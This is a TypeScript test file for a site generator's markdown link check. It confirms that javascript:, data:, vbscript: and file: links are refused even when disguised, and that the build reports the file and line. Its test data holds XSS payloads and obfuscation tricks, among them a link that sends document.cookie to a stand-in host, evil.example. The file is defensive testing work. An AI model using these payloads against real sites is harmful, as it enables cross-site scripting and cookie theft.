/**
 * Links that would run code never reach a built page: the markdown check refuses any scheme but http(s),
 * mailto and tel (and relative addresses), however it is disguised, and the build names the file and line.
 */
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { createMarkdownRenderer } from '../../generator/markdown/processor.ts';
import { schemeOf } from '../../generator/markdown/plugins/remark-safe-link-schemes.ts';
import { runBuild } from '../support/cli.ts';

const render = createMarkdownRenderer({ siteOrigin: 'https://www.example.org' });
const work = mkdtempSync(join(tmpdir(), 'link-schemes-'));

afterAll(() => {
  rmSync(work, { recursive: true, force: true });
});

describe('the markdown link check', () => {
  it.each([
    ['[Open](javascript:alert(1))', 'javascript'],
    ['[Open](JaVaScRiPt:alert(1))', 'javascript'],
    ['[Open](<java\tscript:alert(1)>)', 'javascript'],
    ['[Open](&#106;avascript:alert(1))', 'javascript'],
    ['<javascript:alert(1)>', 'javascript'],
    ['[Open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', 'data'],
    ['[Open](vbscript:msgbox(1))', 'vbscript'],
    ['[Open][ref]\n\n[ref]: javascript:alert(1)', 'javascript'],
    ['![A picture](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)', 'data'],
    ['[A file](file:///etc/passwd)', 'file'],
  ])('refuses %j', (markdown, scheme) => {
    expect(() => render(`Some text.\n\n${markdown}\n`, 'content/resources/example.md')).toThrow(new RegExp(`content/resources/example\\.md: line \\d+: an? (link|image address) uses "${scheme}:"`));
  });

  it('allows web, e-mail, phone and relative addresses', () => {
    const { html } = render('[a](https://www.ndis.gov.au/) [b](http://example.com) [c](mailto:hello@example.org) [d](tel:+61355500142) [e](/referral/) [f](#top) [g](../about/) [h](?q=1) [i](resources/x/)\n');
    expect(html).toContain('href="tel:+61355500142"');
    expect(html).toContain('href="mailto:hello@example.org"');
  });

  it('reads the scheme the way a browser does', () => {
    expect(schemeOf(' \u0001javascript:x')).toBe('javascript');
    expect(schemeOf('jav\nascript:x')).toBe('javascript');
    expect(schemeOf('/path:with-colon')).toBeUndefined();
    expect(schemeOf('./a:b')).toBeUndefined();
  });
});

describe('npm run build', () => {
  it('fails on a javascript: link, naming the file and the line', () => {
    const content = join(work, 'content');
    cpSync('tests/fixtures/site', content, { recursive: true });
    const article = join(content, 'resources', 'first-article.md');
    const lines = readFileSync(article, 'utf8').split('\n');
    lines.push('', 'Read [our form](javascript:fetch(`//evil.example/?c=`+document.cookie)) today.', '');
    writeFileSync(article, lines.join('\n'));
    const line = lines.length - 1;
    const result = runBuild(['--content', content, '--out', join(work, 'out')]);
    expect(result.code).not.toBe(0);
    expect(result.stderr).toMatch(new RegExp(`resources/first-article\\.md: line ${line}: a link uses "javascript:"`));
  });
});
